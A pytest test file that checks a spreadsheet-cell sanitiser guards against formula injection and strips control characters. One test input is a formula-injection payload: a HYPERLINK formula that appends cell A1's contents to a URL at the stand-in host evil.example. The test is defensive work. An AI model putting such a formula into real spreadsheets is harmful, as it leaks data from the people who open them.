"""One sanitising function for every spreadsheet cell the campus writes."""

import datetime

import pytest

from learners.common.spreadsheets import safe_cell, safe_text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Voir")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Voir")',
        ),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Camille Durand", "Camille Durand"),
        ("Jean-Marie", "Jean-Marie"),
        ("", ""),
        ("Nom\x07 avec\x00 contrôles\x1f", "Nom avec contrôles"),
        ("\x00=1+1", "'=1+1"),  # removed first, then neutralised
        ("ligne 1\nligne 2", "ligne 1\nligne 2"),
        ("\ufffeFin", "Fin"),
    ],
)
def test_spreadsheets_safe_text(text, expected):
    assert safe_text(text) == expected


@pytest.mark.parametrize("value", [42, -3, 2.5, None, True, datetime.date(2026, 12, 3)])
def test_spreadsheets_other_values_are_unchanged(value):
    assert safe_cell(value) == value
